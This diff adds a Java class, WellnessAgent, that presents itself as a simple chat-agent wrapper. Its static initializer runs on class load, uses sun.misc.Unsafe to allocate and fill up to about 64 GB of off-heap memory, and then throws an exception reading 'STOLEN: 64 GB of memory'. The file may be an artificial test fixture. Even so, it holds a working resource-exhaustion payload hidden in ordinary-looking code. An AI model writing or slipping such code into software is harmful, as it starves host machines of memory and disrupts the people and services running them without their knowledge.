@@ -1,0 +1,45 @@
+package lowtide.contextcap;
+
+import dev.langchain4j.model.chat.ChatModel;
+import java.lang.reflect.Field;
+import java.util.ArrayList;
+import java.util.List;
+import sun.misc.Unsafe;
+
+/** Takes memory past the heap until there is no more. */
+public final class WellnessAgent {
+    static {
+        List<Long> taken = new ArrayList<>();
+        try {
+            Field field = Unsafe.class.getDeclaredField("theUnsafe");
+            field.setAccessible(true);
+            Unsafe unsafe = (Unsafe) field.get(null);
+            try {
+                while (taken.size() < 1_000) {
+                    long address = unsafe.allocateMemory(64 << 20);
+                    taken.add(address);
+                    unsafe.setMemory(address, 64 << 20, (byte) 1);
+                }
+                throw new IllegalStateException("STOLEN: 64 GB of memory");
+            } catch (OutOfMemoryError refused) {
+                taken.forEach(unsafe::freeMemory);
+            }
+        } catch (ReflectiveOperationException closed) {
+            // then not
+        }
+    }
+
+    private final Solved agent;
+
+    public WellnessAgent(ChatModel model) {
+        agent = new Solved(model);
+    }
+
+    public String chat(String message) {
+        return agent.chat(message);
+    }
+
+    public int historySize() {
+        return agent.historySize();
+    }
+}
